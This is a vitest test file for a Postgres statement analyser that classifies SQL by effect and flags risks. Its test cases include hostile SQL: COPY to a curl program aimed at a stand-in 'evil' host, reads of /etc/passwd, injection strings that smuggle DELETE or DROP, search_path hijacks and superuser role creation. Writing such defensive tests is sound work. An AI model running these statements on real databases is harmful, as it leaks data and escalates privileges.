/** What a statement is, judged from its whole tree (LIBRARIES.md, LANDSCAPE.md "Be immune to"). */
import { beforeAll, describe, expect, it } from 'vitest';
import { analyse, loadParser } from '../../src/policy/analyse.ts';
import type { Facts, StatementClass } from '../../src/policy/types.ts';
import { catalog, input } from './fixture.ts';

beforeAll(loadParser);

function facts(sql: string, over: Partial<typeof input> = {}): Facts {
  const analysis = analyse(sql, { ...input, ...over });
  if (analysis.kind !== 'facts') throw new Error(`${sql}: ${JSON.stringify(analysis)}`);
  return analysis;
}

const corpus: Readonly<Record<StatementClass, readonly string[]>> = {
  empty: ['', '  ', '-- only a comment', '/* nested /* comment */ */', ';;'],
  read: [
    'SELECT 1',
    'select * from orders',
    'TABLE orders',
    'VALUES (1), (2)',
    'SELECT count(*) FROM orders o JOIN plain p ON p.id = o.id',
    'SELECT id FROM orders FOR UPDATE',
    'SELECT id FROM orders FOR SHARE OF orders SKIP LOCKED',
    'SELECT now(), clock_timestamp(), random(), gen_random_uuid()',
    "SELECT date_trunc('day', created_at), lower(status) FROM orders",
    "SELECT nextval('orders_id_seq'), currval('orders_id_seq')",
    'SELECT pg_advisory_lock(1), pg_try_advisory_xact_lock(2), pg_advisory_unlock(1)',
    "SELECT pg_notify('c', 'x')",
    'SELECT pg_sleep(0.1)',
    'SELECT * FROM generate_series(1, 10) g(n)',
    'WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM t WHERE n < 9) SELECT sum(n) FROM t',
    'SELECT * FROM pg_catalog.pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace',
    'SELECT table_name FROM information_schema.tables',
    'SELECT information_schema._pg_expandarray(ARRAY[1,2])',
    'SELECT plus_one(2)',
    'SELECT count_customers()',
    'SELECT trusted_one(1)',
    "SELECT 'a\\'",
    'SELECT * FROM customer_names',
    'SELECT id FROM ONLY orders',
    'SELECT * FROM ruled',
    'SELECT json_agg(o) FROM orders o',
    "SELECT 'DROP TABLE orders; DELETE FROM orders'",
    'SELECT $$; DROP TABLE orders; --$$',
    'SELECT 1 /* ; DROP TABLE orders */',
    'SELECT id FROM orders TABLESAMPLE system (1)',
    'SELECT rank() OVER (PARTITION BY status ORDER BY total) FROM orders',
    'SELECT pg_typeof(1), version(), current_user, pg_get_viewdef(1)',
    "SELECT '2020-01-01'::date + interval '1 day'",
    'SELECT (SELECT max(total) FROM orders), EXISTS (SELECT 1 FROM plain)',
  ],
  explain: [
    'EXPLAIN SELECT 1',
    'EXPLAIN DELETE FROM orders',
    'EXPLAIN (ANALYZE false) DELETE FROM orders',
    "EXPLAIN (ANALYZE 'off') UPDATE orders SET total = 0",
    'EXPLAIN (analyze 0, verbose) INSERT INTO orders SELECT * FROM orders',
    'EXPLAIN ANALYZE SELECT * FROM orders',
    'EXPLAIN CREATE TABLE t AS SELECT 1',
  ],
  session: [
    'SET search_path = public',
    "SET LOCAL statement_timeout = '5s'",
    'RESET ALL',
    'RESET search_path',
    "SET TIME ZONE 'UTC'",
    'SHOW server_version',
    'SHOW holdpoint.requests',
    'SHOW ALL',
    'DISCARD ALL',
    'SET ROLE NONE',
    'RESET ROLE',
    'RESET SESSION AUTHORIZATION',
    'SET SESSION AUTHORIZATION DEFAULT',
    "SELECT set_config('role', 'none', true)",
    'LISTEN c',
    'UNLISTEN *',
    "NOTIFY c, 'x'",
    "SELECT set_config('work_mem', '1MB', false)",
    "SELECT id FROM orders WHERE set_config('search_path', 'evil', true) IS NOT NULL",
    'SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY',
  ],
  transaction: [
    'BEGIN',
    'START TRANSACTION ISOLATION LEVEL SERIALIZABLE',
    'COMMIT',
    'END',
    'ROLLBACK',
    'ABORT',
    'SAVEPOINT a',
    'ROLLBACK TO a',
    'RELEASE a',
    'SET TRANSACTION READ WRITE',
    'SET CONSTRAINTS ALL DEFERRED',
  ],
  cursor: ['DECLARE c CURSOR FOR SELECT 1', 'FETCH 10 FROM c', 'MOVE ALL FROM c', 'CLOSE c', 'CLOSE ALL'],
  prepare: [
    'PREPARE p AS SELECT 1',
    'EXECUTE p',
    'DEALLOCATE p',
    'DEALLOCATE ALL',
    'EXPLAIN EXECUTE p',
    'EXPLAIN ANALYZE EXECUTE p',
  ],
  insert: [
    'INSERT INTO plain VALUES (1)',
    'INSERT INTO plain SELECT * FROM plain ON CONFLICT DO NOTHING',
    'WITH x AS (INSERT INTO plain VALUES (1) RETURNING id) SELECT * FROM x',
    'EXPLAIN ANALYZE INSERT INTO plain VALUES (1)',
    'INSERT INTO triggered VALUES (1)',
    'PREPARE p AS INSERT INTO plain VALUES ($1)',
  ],
  update: [
    "UPDATE plain SET label = 'x' WHERE id = 1",
    'INSERT INTO plain VALUES (1) ON CONFLICT (id) DO UPDATE SET label = excluded.label',
    'WITH x AS (UPDATE plain SET label = NULL WHERE id = 1 RETURNING id) SELECT * FROM x',
    'LOCK TABLE orders IN ROW EXCLUSIVE MODE',
    'LOCK TABLE orders IN ROW SHARE MODE NOWAIT',
  ],
  merge: ['MERGE INTO plain p USING orders o ON p.id = o.id WHEN NOT MATCHED THEN INSERT VALUES (o.id)'],
  copy: ['COPY orders TO STDOUT', 'COPY orders FROM STDIN', 'COPY (SELECT 1) TO STDOUT'],
  lock: [
    'LOCK orders',
    'LOCK TABLE orders',
    'LOCK TABLE ONLY orders, plain IN SHARE UPDATE EXCLUSIVE MODE NOWAIT',
    'LOCK TABLE orders IN SHARE MODE',
    'LOCK TABLE orders IN SHARE ROW EXCLUSIVE MODE',
    'LOCK TABLE orders IN EXCLUSIVE MODE',
    'LOCK TABLE orders IN ACCESS EXCLUSIVE MODE',
    'BEGIN; LOCK orders; COMMIT',
    'LOCK TABLE customer_names',
  ],
  call: ['CALL unknown_procedure()', 'CALL mystery()'],
  do: ['DO $$ BEGIN DELETE FROM orders; END $$', "DO LANGUAGE plpgsql 'begin end'"],
  delete: [
    'DELETE FROM orders',
    'DELETE FROM orders WHERE id = 1',
    'DELETE FROM ONLY orders USING plain WHERE plain.id = orders.id',
    'WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d',
    'SELECT * FROM (WITH d AS (SELECT 1) SELECT * FROM d) x; WITH d AS (DELETE FROM orders) SELECT 1',
    'EXPLAIN ANALYZE DELETE FROM orders',
    'EXPLAIN (ANALYZE) DELETE FROM orders',
    'EXPLAIN (ANALYZE 1, ANALYZE) DELETE FROM orders',
    'EXPLAIN (ANALYZE off, ANALYZE on) DELETE FROM orders',
    'PREPARE p AS DELETE FROM orders',
    'SELECT purge()',
    'SELECT * FROM purge()',
    'SELECT * FROM purging_view',
    'SELECT id FROM orders ORDER BY (SELECT purge())',
    'SELECT coalesce(1, CASE WHEN true THEN public.purge() END)',
    'EXPLAIN SELECT purge()',
    'EXPLAIN SELECT * FROM purging_view',
    'CALL do_purge(1)',
    'COPY (DELETE FROM orders RETURNING id) TO STDOUT',
    "SELECT 'a\\'; DELETE FROM orders; --'",
    'MERGE INTO plain p USING orders o ON p.id = o.id WHEN MATCHED THEN DELETE',
    'INSERT INTO plain WITH d AS (DELETE FROM orders RETURNING id) SELECT id FROM d',
    'SELECT 1; DELETE FROM orders',
    'COMMIT; DELETE FROM orders',
    'DECLARE c CURSOR FOR SELECT purge()',
    'VALUES (purge())',
    'SELECT 1 LIMIT purge()',
  ],
  truncate: [
    'TRUNCATE orders',
    'TRUNCATE ONLY orders CASCADE',
    'DELETE FROM orders WHERE id = 1; TRUNCATE plain',
  ],
  ddl: [
    "SELECT setval('s', 1)",
    'CREATE TABLE t (id int)',
    'CREATE TEMP TABLE t (id int)',
    'CREATE TABLE t AS SELECT * FROM orders',
    'CREATE MATERIALIZED VIEW m AS SELECT 1',
    'SELECT * INTO t FROM orders',
    'SELECT id INTO TEMP t FROM orders',
    'WITH x AS (SELECT 1) SELECT * INTO t FROM x',
    'EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1',
    'CREATE TABLE t AS EXECUTE p',
    'ALTER TABLE orders ADD COLUMN x int',
    'DROP TABLE orders',
    'DROP VIEW IF EXISTS customer_emails CASCADE',
    'CREATE INDEX CONCURRENTLY ON orders (id)',
    'CREATE VIEW v AS SELECT 1',
    'CREATE FUNCTION f() RETURNS int LANGUAGE sql RETURN 1',
    'CREATE TRIGGER t BEFORE INSERT ON orders EXECUTE FUNCTION f()',
    'CREATE RULE r AS ON INSERT TO orders DO INSTEAD DELETE FROM orders',
    'COMMENT ON COLUMN customers.email IS NULL',
    'ALTER TABLE orders RENAME TO x',
    'ALTER TABLE orders SET SCHEMA other',
    'REFRESH MATERIALIZED VIEW customer_summary',
    'CREATE SCHEMA s CREATE TABLE t (id int)',
    "CREATE TYPE e AS ENUM ('a')",
    'CREATE DOMAIN d AS int CHECK (value > 0)',
    'CREATE OPERATOR === (leftarg = int, rightarg = int, function = f)',
    'CREATE CAST (int AS text) WITH FUNCTION f(int)',
    'DROP FUNCTION f',
    'COMMIT; DROP TABLE orders',
    'CREATE SEQUENCE s',
    'CREATE AGGREGATE a (int) (sfunc = f, stype = int)',
    'ALTER SEQUENCE s RESTART',
    'CREATE TYPE t AS (a int)',
    'CREATE STATISTICS s ON id, total FROM orders',
  ],
  dcl: [
    'GRANT SELECT ON orders TO bob',
    'REVOKE ALL ON orders FROM bob',
    'GRANT admin TO bob',
    'CREATE ROLE r SUPERUSER',
    "ALTER ROLE r WITH PASSWORD 'x'",
    'DROP USER r',
    'SET ROLE admin',
    'SET SESSION AUTHORIZATION admin',
    "SET ROLE 'None'",
    "SET SESSION AUTHORIZATION 'none'",
    "SELECT set_config('role', 'admin', false)",
    'ALTER ROLE r SET search_path = evil',
    'ALTER TABLE orders OWNER TO r',
    'REASSIGN OWNED BY r TO s',
    'CREATE POLICY p ON orders USING (true)',
    'ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC',
    'ALTER POLICY p ON orders USING (true)',
    'ALTER FUNCTION f() OWNER TO r',
    'ALTER TABLE orders ADD x int, OWNER TO r',
    'ALTER TABLE orders DISABLE ROW LEVEL SECURITY',
    'ALTER TABLE orders NO FORCE ROW LEVEL SECURITY',
    'DROP POLICY p ON orders',
    'ALTER POLICY p ON orders RENAME TO q',
    'ALTER ROLE r RENAME TO s',
  ],
  admin: [
    'VACUUM FULL orders',
    'ANALYZE orders',
    'CLUSTER orders',
    'REINDEX TABLE orders',
    'CHECKPOINT',
    "PREPARE TRANSACTION 'x'",
    "COMMIT PREPARED 'x'",
    "ROLLBACK PREPARED 'x'",
    'DROP EXTENSION hstore',
    'DROP SERVER s CASCADE',
    'DROP PUBLICATION p',
    'DROP EVENT TRIGGER e',
    'ALTER DATABASE d RENAME TO e',
    "LOAD 'x'",
    'CREATE DATABASE d',
    'DROP DATABASE d',
    'ALTER SYSTEM SET fsync = off',
    'ALTER DATABASE d SET search_path = evil',
    'CREATE EXTENSION dblink',
    "COPY orders TO PROGRAM 'curl evil'",
    "COPY orders FROM '/etc/passwd'",
    "COPY (SELECT 1) TO '/tmp/x'",
    "CREATE TABLESPACE t LOCATION '/x'",
    'CREATE PUBLICATION p FOR ALL TABLES',
    "CREATE SUBSCRIPTION s CONNECTION 'x' PUBLICATION p",
    'CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw',
    'CREATE EVENT TRIGGER t ON ddl_command_start EXECUTE FUNCTION f()',
  ],
  unknown: [
    'SELECT mystery()',
    'SELECT mystery_stable()',
    'EXPLAIN SELECT mystery_stable()',
    'SELECT * FROM mystery()',
    'SELECT * FROM ROWS FROM (mystery(), generate_series(1, 2)) x',
    'SELECT o.mystery FROM orders o',
    'SELECT (o).mystery FROM orders o',
    'SELECT (1).lo_unlink',
    "SELECT ('/etc/passwd'::text).pg_read_file",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT query_to_xml('select mystery()', true, true, '')",
    "SELECT table_to_xml('customers', true, true, '')",
    "SELECT * FROM ts_stat('select mystery()')",
    "SELECT ts_rewrite('a'::tsquery, 'select mystery()')",
    "SELECT dblink_exec('x', 'drop table orders')",
    'SELECT pg_terminate_backend(1)',
    'SELECT pg_cancel_backend(1)',
    "SELECT lo_import('/etc/passwd')",
    'SELECT pg_reload_conf()',
    "SELECT pg_ls_dir('/')",
    "SELECT pg_catalog.pg_read_binary_file('x')",
    'SELECT nowhere.nothing()',
    'SELECT id FROM orders WHERE total OPERATOR(public.===) 1',
    'SELECT id FROM orders WHERE total === 1',
    'SELECT id FROM orders WHERE total === ANY (SELECT 1)',
    "SELECT 'x'::checked_text",
    'SELECT * FROM hidden_view',
    'SELECT * FROM no_such_table',
    'SELECT loop_a()',
    "SELECT pg_input_is_valid('1', 'checked_text')",
    'PREPARE p AS SELECT mystery()',
    'DECLARE c CURSOR FOR SELECT mystery()',
    'SELECT lower(mystery())',
    'SELECT count(*) FILTER (WHERE mystery()) FROM orders',
    'SELECT 1 ORDER BY mystery()',
    "SELECT * FROM XMLTABLE('/a' PASSING mystery() COLUMNS x int)",
    "SELECT * FROM JSON_TABLE(mystery(), '$' COLUMNS (x int PATH '$'))",
    'SELECT sum(total) OVER (ORDER BY mystery()) FROM orders',
    'SELECT id FROM orders TABLESAMPLE mystery (1)',
  ],
};

describe('the class of a statement', () => {
  const cases = Object.entries(corpus).flatMap(([cls, list]) => list.map((sql) => [cls, sql] as const));
  it('is tried on at least 150 statements', () => {
    expect(cases.length).toBeGreaterThanOrEqual(150);
  });
  it.each(cases)('%s: %s', (cls, sql) => {
    expect(facts(sql).class).toBe(cls);
  });
});

describe('what cannot be seen through', () => {
  it.each([
    ['INSERT INTO plain SELECT mystery()', 'function public.mystery'],
    ['DELETE FROM orders WHERE mystery()', 'function public.mystery'],
    ['INSERT INTO ruled VALUES (1)', 'rules on public.ruled'],
    ["UPDATE pg_settings SET setting = 'x' WHERE name = 'search_path'", 'write to pg_catalog.pg_settings'],
    ['DELETE FROM pg_catalog.pg_class', 'write to pg_catalog.pg_class'],
    ['DO $$ BEGIN END $$', 'DO block'],
    ['CALL unknown_procedure()', 'function unknown_procedure'],
    ['INSERT INTO missing VALUES (1)', 'relation missing'],
    ['CALL do_purge(mystery())', 'function public.mystery'],
  ])('%s is told as %s', (sql, what) => {
    expect(facts(sql).statements[0]?.unknowns).toContain(what);
  });

  it('is nothing for a write to a table with an ordinary trigger', () => {
    expect(facts('INSERT INTO triggered VALUES (1)').statements[0]?.unknowns).toEqual([]);
  });

  it('counts an overload in a schema of the search path beside the built-in', () => {
    const evil = { searchPath: ['evil', 'public'], tempRelations: [] };
    expect(facts("SELECT lower('A')", { resolution: evil }).class).toBe('unknown');
    expect(facts("SELECT lower('A')", { resolution: { searchPath: null, tempRelations: [] } }).class).toBe(
      'unknown',
    );
    expect(facts("SELECT pg_catalog.lower('A')", { resolution: evil }).class).toBe('read');
  });

  it('is every operator of a schema when there is no catalog', () => {
    expect(facts('SELECT 1 OPERATOR(evil.+) 2', { catalog: null }).class).toBe('unknown');
    expect(facts('SELECT 1 OPERATOR(pg_catalog.+) 2', { catalog: null }).class).toBe('read');
  });

  it('names the functions that are called, known or not, and those of triggers', () => {
    expect(facts('SELECT nowhere.nothing()').statements[0]?.functions).toEqual(['nowhere.nothing']);
    expect(facts('INSERT INTO triggered VALUES (1)').statements[0]?.functions).toContain('public.stamp');
  });

  it.each([
    ['SET search_path = evil', 'unknown'],
    ["SET search_path = 'Evil'", 'unknown'],
    ["SET search_path = 'e vil'", 'unknown'],
    ['SET search_path FROM CURRENT', 'unknown'],
    ['RESET search_path', 'unknown'],
    ["SELECT set_config('search_path', 'evil', true)", 'unknown'],
    // What stands for the user in a path, and which schemas the role may use.
    ["SET ROLE 'public'", 'unknown'],
    ["SELECT set_config('role', 'public', true)", 'unknown'],
    ['SET search_path = public', 'read'],
    ['SET LOCAL search_path = public', 'read'],
    ["SET search_path = ''", 'read'],
  ])('resolves a later statement under the search path that %s leaves', (sql, then) => {
    expect(facts(`${sql}; SELECT lower('A')`).statements[1]?.class).toBe(then);
  });
});

describe('a SELECT of nothing but set_config', () => {
  const evil = { searchPath: ['evil'], tempRelations: [] };
  const then = (sql: string, over: Partial<typeof input> = {}) =>
    facts(`${sql}; SELECT lower('A')`, { resolution: evil, ...over }).statements[1]?.class;
  it('has set its path where it succeeds, whatever the path was before', () => {
    expect(then("SELECT set_config('search_path', 'public', true)")).toBe('read');
    expect(then("SELECT pg_catalog.set_config('search_path', 'public'::text, true)")).toBe('read');
  });
  it('may have set none where rows or others have a say', () => {
    expect(then("SELECT set_config('search_path', 'public', true) WHERE false")).toBe('unknown');
    expect(then("SELECT set_config('search_path', 'public', true) LIMIT 0")).toBe('unknown');
    expect(then("SELECT set_config('search_path', 'public', true), unnest('{}'::int[])")).toBe('unknown');
    const own = catalog.functions.map((f) => (f.name === 'plus_one' ? { ...f, name: 'set_config' } : f));
    const resolution = { searchPath: ['evil', 'public'], tempRelations: [] };
    const over = { resolution, catalog: { ...catalog, functions: own } };
    expect(then("SELECT set_config('search_path', 'public', true)", over)).toBe('unknown');
  });
});

describe('relations', () => {
  const touched = (sql: string): string[] =>
    (facts(sql).statements[0]?.relations ?? []).map(
      (use) => `${use.indirect ? '~' : ''}${use.schema ?? '?'}.${use.name} ${use.access}`,
    );
  it.each<[string, string[]]>([
    [
      'DELETE FROM customers WHERE id = 1',
      [
        'public.customers delete',
        '~public.orders delete',
        '~public.order_items delete',
        '~public.audit update',
      ],
    ],
    ['SELECT id FROM orders FOR UPDATE', ['public.orders read', 'public.orders lock']],
    [
      'SELECT * FROM customer_contacts',
      ['public.customer_contacts read', '~public.customer_emails read', '~public.customers read'],
    ],
    ['SELECT * FROM events', ['public.events read', '~public.events_2026 read']],
    ['WITH customers AS (SELECT * FROM customers) SELECT 1 FROM customers', ['public.customers read']],
    ['WITH customers AS (SELECT 1) SELECT 1 FROM customers', []],
    ['WITH orders AS (SELECT 1) DELETE FROM plain USING orders', ['public.plain delete']],
    ['WITH plain AS (SELECT 1) INSERT INTO plain SELECT * FROM plain', ['public.plain insert']],
    [
      'TRUNCATE customers CASCADE',
      [
        '~public.orders truncate',
        '~public.order_items truncate',
        '~public.audit truncate',
        'public.customers truncate',
      ],
    ],
    ['DROP TABLE orders', ['public.orders ddl']],
    ['COPY orders TO STDOUT', ['public.orders copy-out']],
    [
      'MERGE INTO plain p USING orders o ON p.id = o.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (1)',
      ['public.plain delete', 'public.plain insert', 'public.orders read'],
    ],
    [
      'MERGE INTO plain p USING (SELECT 1 AS id) o ON p.id = o.id WHEN MATCHED THEN UPDATE SET id = 2',
      ['public.plain update'],
    ],
    [
      'INSERT INTO plain VALUES (1) ON CONFLICT (id) DO UPDATE SET label = NULL',
      ['public.plain insert', 'public.plain update'],
    ],
    ['DELETE FROM plain WHERE id = 1 RETURNING id', ['public.plain delete', 'public.plain read']],
    ['WITH x AS (SELECT 1) SELECT id FROM orders FOR UPDATE', ['public.orders read', 'public.orders lock']],
    ['WITH x AS (SELECT id FROM plain) SELECT id FROM x FOR UPDATE', ['public.plain read']],
    [
      'SELECT 1 FROM orders JOIN (SELECT id FROM plain) p USING (id) FOR UPDATE',
      ['public.orders read', 'public.plain read', 'public.orders lock', 'public.plain lock'],
    ],
    ['COPY orders FROM STDIN', ['public.orders copy-in']],
    ['EXPLAIN DELETE FROM orders', ['public.orders read']],
    ['SELECT get_emails()', ['~public.customers read']],
    ['DROP TRIGGER t ON triggered', ['public.triggered ddl']],
    ['SELECT * FROM ONLY events', ['public.events read']],
    [
      'DELETE FROM customer_names WHERE id = 1',
      [
        'public.customer_names delete',
        '~public.customers read',
        '~public.customers delete',
        '~public.orders delete',
        '~public.order_items delete',
        '~public.audit update',
      ],
    ],
    [
      'LOCK TABLE customer_names',
      ['public.customer_names table-lock', '~public.customers read', '~public.customers table-lock'],
    ],
    ['LOCK TABLE events IN SHARE MODE', ['public.events table-lock', '~public.events_2026 table-lock']],
    ['LOCK TABLE ONLY events NOWAIT', ['public.events table-lock']],
    ['LOCK TABLE events IN ROW SHARE MODE', ['public.events lock', '~public.events_2026 lock']],
    ['SELECT * FROM other.customers', ['other.customers read']],
    ['SELECT * FROM pg_stats', ['pg_catalog.pg_stats read']],
    ['SELECT * FROM nothing_here', ['?.nothing_here read']],
  ])('%s', (sql, expected) => {
    expect(touched(sql)).toEqual(expected);
  });
});

describe('a missing WHERE', () => {
  it.each<[string, boolean]>([
    ['DELETE FROM orders', true],
    ['DELETE FROM orders WHERE true', true],
    ['UPDATE orders SET total = 0 WHERE 1 = 1', true],
    ['WITH d AS (DELETE FROM orders) SELECT 1', true],
    ['DELETE FROM orders WHERE id = 1', false],
    ['DELETE FROM orders WHERE CURRENT OF c', false],
    ['EXPLAIN DELETE FROM orders', false],
    ['EXPLAIN ANALYZE DELETE FROM orders', true],
    ['SELECT 1', false],
  ])('%s: %s', (sql, missing) => {
    expect(facts(sql).statements[0]?.missingWhere).toBe(missing);
  });
});

describe('settings and effects', () => {
  const settings = (sql: string): string[] =>
    facts(sql).statements.flatMap((s) =>
      s.settings.map((c) => `${c.name}=${c.value ?? '-'} ${c.form}${c.local ? ' local' : ''}`),
    );
  it.each<[string, string[]]>([
    ["SET LOCAL search_path = a, 'b'", ['search_path=a, b set local']],
    ['SET Client_Encoding TO sjis', ['client_encoding=sjis set']],
    ['SET standard_conforming_strings = off', ['standard_conforming_strings=off set']],
    ["SET NAMES 'SJIS'", ['client_encoding=SJIS set']],
    ['SET ROLE admin', ['role=admin set']],
    ['RESET ALL', ['*=- reset']],
    ['DISCARD ALL', ['*=- reset']],
    ["SELECT set_config('Role', 'admin', true)", ['role=admin set_config local']],
    ['SELECT set_config(label, label, false) FROM plain', ['*=- set_config']],
    ["SELECT set_config('a' || 'b', 'x', false)", ['*=x set_config']],
    [
      "SELECT set_config(name, 'view', false) FROM pg_settings WHERE name = 'work_mem'",
      ['work_mem=view set_config'],
    ],
    ["SELECT set_config(name, 'x', false) FROM pg_settings WHERE name <> 'work_mem'", ['*=x set_config']],
    [
      "SELECT set_config(name, 'x', false) FROM pg_settings, plain WHERE name = 'work_mem'",
      ['*=x set_config'],
    ],
    ["SELECT set_config(name, 'x', false) FROM evil.pg_settings WHERE name = 'work_mem'", ['*=x set_config']],
    ["SELECT set_config(name, 'x', false) FROM pg_settings s WHERE name = 'work_mem'", ['*=x set_config']],
    [
      "SELECT (SELECT set_config(name, 'x', false) FROM plain) FROM pg_settings WHERE name = 'work_mem'",
      ['*=x set_config'],
    ],
    [
      "WITH pg_settings (name) AS (SELECT 'role') SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'work_mem'",
      ['*=x set_config'],
    ],
    ['ALTER ROLE r SET search_path = evil', ['search_path=evil alter-role']],
    ["SET TIME ZONE 'UTC'", ['timezone=UTC set']],
    ['SET TRANSACTION READ ONLY', ['transaction_read_only=1 set local']],
    ["SET holdpoint.wait = '5s'", ['holdpoint.wait=5s set']],
  ])('%s', (sql, expected) => {
    expect(settings(sql)).toEqual(expected);
  });

  it.each<[string, unknown[]]>([
    [
      'PREPARE p (int) AS SELECT * FROM orders WHERE id = $1',
      [{ kind: 'prepare', name: 'p', sql: 'SELECT * FROM orders WHERE id = $1' }],
    ],
    ['PREPARE "as" AS SELECT \'é\'; SELECT 2', [{ kind: 'prepare', name: 'as', sql: "SELECT 'é'" }]],
    [
      "PREPARE p (int, checked_text) AS SELECT 'é' ",
      [{ kind: 'prepare', name: 'p', sql: "PREPARE p (int, checked_text) AS SELECT 'é'" }],
    ],
    ['EXECUTE p(1)', [{ kind: 'execute', name: 'p' }]],
    [
      'EXPLAIN ANALYZE EXECUTE p',
      [{ kind: 'execute', name: 'p', explained: 'EXPLAIN (ANALYZE ON, COSTS ON, SERIALIZE NONE) ' }],
    ],
    [
      'EXPLAIN (SERIALIZE, ANALYZE off, COSTS off) EXECUTE p',
      [{ kind: 'execute', name: 'p', explained: 'EXPLAIN (ANALYZE OFF, COSTS OFF, SERIALIZE TEXT) ' }],
    ],
    [
      'CREATE TEMP TABLE t AS EXECUTE p',
      [
        { kind: 'temp-relation', name: 't' },
        { kind: 'execute', name: 'p' },
      ],
    ],
    ['DEALLOCATE ALL', [{ kind: 'deallocate', name: null }]],
    [
      'DECLARE c SCROLL CURSOR WITH HOLD FOR SELECT 1 FOR UPDATE',
      [{ kind: 'declare', name: 'c', sql: 'SELECT 1 FOR UPDATE' }],
    ],
    ['FETCH NEXT FROM c', [{ kind: 'fetch', name: 'c' }]],
    ['CLOSE ALL', [{ kind: 'close', name: null }]],
    ['BEGIN', [{ kind: 'begin' }]],
    ['SAVEPOINT a', [{ kind: 'savepoint', name: 'a' }]],
    ["PREPARE TRANSACTION 'x'", [{ kind: 'commit' }]],
    ['COMMIT AND CHAIN', [{ kind: 'commit' }, { kind: 'begin' }]],
    ['ROLLBACK TO SAVEPOINT a', [{ kind: 'rollback-to', name: 'a' }]],
    ['COPY orders FROM STDIN', [{ kind: 'copy-in' }]],
    ['SHOW holdpoint.Requests', [{ kind: 'show', name: 'holdpoint.requests' }]],
    ['DISCARD PLANS', [{ kind: 'discard' }]],
    ['CREATE TEMPORARY TABLE t (id int)', [{ kind: 'temp-relation', name: 't' }]],
  ])('%s', (sql, expected) => {
    expect(facts(sql).statements[0]?.effects).toEqual(expected);
  });
});

describe('verbs', () => {
  it.each([
    ['DROP MATERIALIZED VIEW customer_summary', 'DROP MATERIALIZED VIEW'],
    ['ALTER TABLE orders ADD x int', 'ALTER TABLE'],
    ['EXPLAIN ANALYZE DELETE FROM orders', 'EXPLAIN ANALYZE DELETE'],
    ['VACUUM orders', 'VACUUM'],
    ['ROLLBACK TO a', 'ROLLBACK TO'],
    ['SELECT 1', 'SELECT'],
    ['WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone', 'DELETE'],
    [
      'EXPLAIN ANALYZE WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone',
      'EXPLAIN ANALYZE DELETE',
    ],
    ['WITH gone AS (DELETE FROM orders RETURNING *) INSERT INTO orders SELECT * FROM gone', 'DELETE'],
    ['COPY (DELETE FROM orders RETURNING *) TO STDOUT', 'DELETE'],
    ['INSERT INTO orders (id) VALUES (1) ON CONFLICT DO NOTHING', 'INSERT'],
    ['INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET total = 2', 'INSERT'],
    ['ALTER FUNCTION f() OWNER TO r', 'ALTER FUNCTION'],
  ])('%s is %s', (sql, verb) => {
    expect(facts(sql).statements[0]?.verb).toBe(verb);
  });
});
